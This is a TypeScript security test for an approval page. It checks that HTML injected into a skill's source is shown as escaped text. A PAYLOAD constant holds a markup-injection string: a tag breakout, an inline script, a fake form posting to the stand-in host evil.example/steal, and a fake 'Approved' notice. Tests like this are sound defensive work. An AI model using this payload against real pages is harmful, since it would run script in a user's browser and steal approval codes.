// Technique: markup injection into the approval page. The page shows the skill's own code (and the
// audit's excerpts of it), which a generator wrote: a prompt-injected or malicious draft can put
// HTML there, hoping to run script in the approver's browser or to draw a fake "approved" state or
// a fake code form over the real one.
// Defence: the page is JSX, which escapes every text child and attribute; the source is a text child
// of <code>. The CSP (no inline script) is a second wall, not relied on here.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../../../src/api/app.js";
import { createManualClock } from "../../../src/api/adapters/system.js";
import { ensureLocalDemo } from "../../../src/api/demo-tenant.js";
import { createLogger } from "../../../src/api/http/logger.js";
import { createRoot, type Root } from "../../../src/api/root.js";
import { loadConfig } from "../../../src/config/index.js";
import { EXAMPLE_SOURCE, insertVersion } from "../../support/approval.js";
import { tempDir } from "../../support/cli.js";

const PAYLOAD =
  `</code></pre><script>document.title="pwned"</script>` +
  `<form method="post" action="https://evil.example/steal"><input name="code"></form><p class="ok">Approved</p>`;

describe("markup in the skill's source, shown on the approval page", () => {
  let root: Root;
  beforeAll(async () => {
    root = createRoot(loadConfig({ SKILLFORGE_LOG_LEVEL: "silent" }, { dataDir: tempDir("skillforge-inject-") }), {
      clock: createManualClock(new Date("2026-03-01T10:00:00Z")),
    });
  });
  afterAll(async () => root?.close());

  it("is shown as text: no script element, no second form, no fake state; the real code form is the only one", async () => {
    const storage = await root.storage();
    const app = createApp({ root, storage, logger: createLogger("silent"), bodyLimitBytes: 64 * 1024 });
    const { tenantId } = (await ensureLocalDemo(root))!;
    const source = `// ${PAYLOAD}\n${EXAMPLE_SOURCE}`;
    const { versionId } = await insertVersion(storage, tenantId, { slug: "custom-injected", source });
    const service = await root.approval();
    const approval = await service.gateway.create(tenantId, versionId, "test");
    const url = new URL(service.gateway.links(approval.id).pageUrl);

    const html = await (await app.request(`${url.pathname}${url.search}`)).text();
    expect(html).not.toContain("<script>");
    expect(html).not.toContain('evil.example/steal">');
    expect(html.match(/<form /g)).toHaveLength(2);
    expect(html).toContain("&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;document.title=&quot;pwned&quot;&lt;/script&gt;");
    expect(html).toContain("Waiting for your codes.");
    expect(html).not.toContain(`<p class="ok">Approved</p>`);
  }, 60_000);
});
